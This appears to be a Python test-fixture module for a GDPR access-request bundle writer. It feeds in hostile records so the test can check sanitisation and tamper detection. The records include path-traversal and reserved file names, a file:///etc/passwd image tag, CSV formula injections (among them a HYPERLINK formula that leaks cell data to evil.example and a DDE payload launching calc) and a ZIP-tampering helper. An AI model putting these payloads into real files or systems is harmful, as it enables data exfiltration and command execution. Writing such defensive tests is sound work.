"""Synthetic inputs for the bundle tests: a context with three systems and hostile records."""

from __future__ import annotations

import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any

from requests_app.datamap.schema import Dataset, Field, System
from requests_app.fulfilment.bundles.inputs import Branding, BundleContext
from requests_app.fulfilment.bundles.writer import BundleSummary, write_access_bundle

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

HOSTILE_SYSTEM = "../../etc"
RESERVED_DATASET = "CON"
SUBJECT_NAME = "李小龙 Зоя"
LONG_TABLE = 300
MARKUP = "<img src='file:///etc/passwd'><b>bold?</b>"
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1 555 0100", "@SUM(A1)", "-2+3")


def _field(name: str, category: str, **overrides: Any) -> Field:
    values: dict[str, Any] = {
        "name": name,
        "category": category,
        "purpose": "Providing the API service",
        "legal_basis": "Contract (GDPR Art. 6(1)(b))",
        "recipients": ("Cloud hosting provider (processor)",),
        "retention": "While the account is open, then 30 days",
        "source": "you",
        "erasure": "delete_row",
        "correctable": False,
    }
    values.update(overrides)
    return Field(**values)


ACCOUNTS = System(
    name="accounts",
    description="The customer database behind the website and the API.",
    kind="sql",
    connection={},
    datasets=(
        Dataset(
            name="users",
            description="Your account.",
            locator={},
            fields=(
                _field("id", "identifier"),
                _field("email", "contact"),
                _field("name", "contact"),
                _field("phone", "contact", purpose="Account security", legal_basis="Legitimate interests"),
                _field(
                    "company",
                    "account",
                    recipients=("Payment processor", "Tax advisers"),
                    retention="10 years after the last invoice (commercial law)",
                ),
                _field("created_at", "account"),
                _field("balance", "billing", purpose="Billing", legal_basis="Legal obligation (tax law)"),
            ),
        ),
        Dataset(
            name="api_requests",
            description="Every call made with your API keys.",
            locator={},
            fields=(
                _field("id", "identifier"),
                _field("at", "usage data", purpose="Operating and securing the service", retention="90 days"),
                _field("path", "usage data", retention="90 days"),
                _field("ip", "online identifier", retention="90 days", source="your device, automatically"),
                _field("user_agent", "device data", retention="90 days", source="your device, automatically"),
                _field("note", "usage content", retention="90 days"),
            ),
        ),
    ),
)

SESSIONS = System(
    name="sessions",
    description="Login sessions in the cache.",
    kind="redis",
    connection={},
    datasets=(
        Dataset(
            name=RESERVED_DATASET,
            description="A dataset whose name Windows reserves.",
            locator={},
            fields=(
                _field("key", "online identifier", retention="14 days"),
                _field("ip", "online identifier", retention="14 days", source="your device, automatically"),
            ),
        ),
    ),
)

HOSTILE = System(
    name=HOSTILE_SYSTEM,
    description="A system whose name tries to climb out of its folder.",
    kind="http",
    connection={},
    datasets=(
        Dataset(
            name="../passwd",
            description="And so does this dataset's name.",
            locator={},
            fields=(
                _field(
                    "segment",
                    "usage data",
                    purpose="Marketing analytics",
                    legal_basis="Consent (GDPR Art. 6(1)(a))",
                    recipients=("Analytics vendor in the USA",),
                    source="Data broker (Example Leads Inc.)",
                    retention="Until you withdraw consent",
                ),
            ),
        ),
    ),
)


def make_context(**overrides: Any) -> BundleContext:
    values: dict[str, Any] = {
        "reference": "DSR-7KQ2-M9XD",
        "request_type": "access",
        "subject_name": SUBJECT_NAME,
        "subject_email": "xiaolong.zoya@example.org",
        "received_at": datetime(2026, 3, 2, 9, 30, tzinfo=UTC),
        "completed_at": datetime(2026, 3, 20, 16, 0, tzinfo=UTC),
        "jurisdiction_name": "European Union (GDPR)",
        "company_name": "Example API Ltd",
        "company_address": "1 Example Street, Dublin, Ireland",
        "contact_email": "privacy@example.com",
        "supervisory_authority": "the Data Protection Commission (Ireland), www.dataprotection.ie",
        "datamap_version": "2026-03-01.1",
        "systems": (ACCOUNTS, SESSIONS, HOSTILE),
        "automated_decision_making": "We do not make decisions about you by automated means alone, and we do not "
        "profile you.",
        "transfer_safeguards": "Our hosting provider's data centres are in the EU. Our analytics vendor is in "
        "the USA: transfers rely on the EU Standard Contractual Clauses (Commission Decision 2021/914).",
        "branding": Branding(company_name="Example API Ltd"),
        "public_key_url": "https://privacy.example.com/.well-known/dsar-bundle-key.pem",
    }
    values.update(overrides)
    return BundleContext(**values)


def user_record() -> dict[str, Any]:
    return {
        "id": 42,
        "email": "xiaolong.zoya@example.org",
        "name": SUBJECT_NAME,
        "phone": FORMULAS[1],
        "company": FORMULAS[0],
        "created_at": datetime(2021, 5, 4, 12, 0, tzinfo=UTC),
        "balance": Decimal("-12.50"),
        "legacy_flag": "@SUM(A1)",  # not in the data map: goes to the _extra column
    }


def api_record(index: int) -> dict[str, Any]:
    return {
        "id": index,
        "at": datetime(2026, 1, 1, tzinfo=UTC),
        "path": f"/v1/things/{index}?expand=owner&fields=all",
        "ip": "203.0.113.7",
        "user_agent": "curl/8.5.0 " + "long-agent-text-without-spaces-" * (3 if index % 50 == 0 else 0),
        "note": {1: FORMULAS[2], 2: FORMULAS[3], 3: MARKUP}.get(index, f"note {index}"),
    }


def records(*, api_requests: int = LONG_TABLE) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Records interleaved across systems, as a real fan-out delivers them."""
    yield "accounts", "users", user_record()
    for index in range(1, api_requests + 1):
        yield "accounts", "api_requests", api_record(index)
        if index % 100 == 1:
            yield "sessions", RESERVED_DATASET, {"key": f"session:42:{index}", "ip": "198.51.100.2"}
    yield HOSTILE_SYSTEM, "../passwd", {"segment": "=cmd|' /C calc'!A0"}
    yield "unmapped\x00system/..", "Users", {"x": 1}
    yield "unmapped\x00system/..", "users", {"x": 2}


def rewrite_zip(
    source: Path, target: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> None:
    """Copy a ZIP entry by entry, replacing or adding entries, as someone tampering would."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info, replace.get(info.filename, old.read(info.filename)))
        for name, data in add.items():
            new.writestr(name, data)


def flip_byte(data: bytes, offset: int) -> bytes:
    return data[:offset] + bytes([data[offset] ^ 0x01]) + data[offset + 1 :]


def write_test_bundle(path: Path, key: Ed25519PrivateKey, **options: Any) -> BundleSummary:
    with path.open("wb") as out:
        return write_access_bundle(out, make_context(), records(), signing_key=key, **options)
